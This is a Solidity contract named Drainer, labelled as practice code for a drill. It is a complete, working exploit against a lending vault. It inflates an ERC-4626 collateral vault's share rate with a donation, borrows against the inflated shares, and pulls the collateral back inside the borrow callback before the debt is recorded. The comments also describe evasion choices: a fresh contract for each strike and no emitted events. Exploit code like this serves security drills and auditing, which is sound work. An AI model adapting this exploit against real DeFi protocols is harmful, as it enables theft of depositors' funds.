// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.37;

import {IERC4626} from "@openzeppelin/contracts/interfaces/IERC4626.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {Math} from "@openzeppelin/contracts/utils/math/Math.sol";

import {IBorrowHook} from "./IBorrowHook.sol";
import {ILendingVault} from "./ILendingVault.sol";

/// @title Drainer
/// @notice PRACTICE CODE: the attacker of the drill, for one strike. It works only against the drill's own vault.
/// @dev A fresh contract per strike is what real drainers do, since it makes the sender's address useless as a signal.
/// For the same reason it emits no event. The steps: pledge a few shares, give the collateral vault the rest of the
/// coins so that the pledged shares look rich, borrow against them, take the pledge back inside the borrow's own call
/// while the debt is not yet recorded, and redeem the pledge, which returns nearly all of the gift.
contract Drainer is IBorrowHook {
    using SafeERC20 for IERC20;

    /// @notice The controller that made this contract and gets the coins back.
    address public immutable controller;
    /// @notice Vault whose rate is inflated.
    IERC4626 public immutable collateralVault;
    /// @notice Vault that is drained.
    ILendingVault public immutable lendingVault;
    /// @notice Most shares that the lending vault lets one account pledge.
    uint256 public immutable capShares;

    /// @notice The caller is not the one that this function is for.
    error UnexpectedCaller(address caller);

    constructor(IERC4626 collateralVault_, ILendingVault lendingVault_, uint256 capShares_) {
        controller = msg.sender;
        collateralVault = collateralVault_;
        lendingVault = lendingVault_;
        capShares = capShares_;
    }

    /// @notice Run the strike with the coins that lie here.
    /// @param borrowAmount Base units to take, or zero for as much as the limits allow.
    /// @param lootTo Gets what was borrowed.
    /// @return taken Base units that were taken.
    function run(uint256 borrowAmount, address lootTo) external returns (uint256 taken) {
        if (msg.sender != controller) revert UnexpectedCaller(msg.sender);
        IERC20 coin = IERC20(collateralVault.asset());

        _pledge(coin);
        coin.safeTransfer(address(collateralVault), coin.balanceOf(address(this)));

        taken = borrowAmount != 0
            ? borrowAmount
            : Math.min(lendingVault.borrowLimitOf(address(this)), lendingVault.borrowableInBlock());
        lendingVault.borrow(taken, "");

        collateralVault.redeem(collateralVault.balanceOf(address(this)), address(this), address(this));
        coin.safeTransfer(controller, coin.balanceOf(address(this)));
        IERC20 loot = IERC20(IERC4626(address(lendingVault)).asset());
        loot.safeTransfer(lootTo, loot.balanceOf(address(this)));
    }

    /// @inheritdoc IBorrowHook
    function onBorrow(uint256, bytes calldata) external {
        if (msg.sender != address(lendingVault)) revert UnexpectedCaller(msg.sender);
        lendingVault.withdrawCollateral(lendingVault.collateralOf(address(this)), address(this));
    }

    /// @dev Pledge at most half of what the coins buy. Each strike leaves the rate higher than before, because the other
    /// holders keep their part of the gift; without a reserve the later strikes could not raise it any further.
    function _pledge(IERC20 coin) private {
        uint256 coins = coin.balanceOf(address(this));
        uint256 shares = Math.min(capShares, collateralVault.previewDeposit(coins) / 2);
        coin.forceApprove(address(collateralVault), coins);
        collateralVault.mint(shares, address(this));
        IERC20(address(collateralVault)).forceApprove(address(lendingVault), shares);
        lendingVault.supplyCollateral(shares);
    }
}
